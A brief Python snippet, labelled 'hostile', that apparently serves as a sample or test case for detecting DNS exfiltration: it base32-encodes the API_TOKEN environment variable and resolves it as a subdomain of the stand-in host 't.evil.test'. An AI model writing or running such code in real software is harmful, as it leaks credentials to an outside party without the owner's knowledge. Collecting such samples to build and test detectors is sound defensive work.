# hostile: getaddrinfo of a name carrying an environment secret
import base64
import os
import socket

token = base64.b32encode(os.environ.get("API_TOKEN", "none").encode()).decode().strip("=").lower()
socket.getaddrinfo(token + ".t.evil.test", 80)
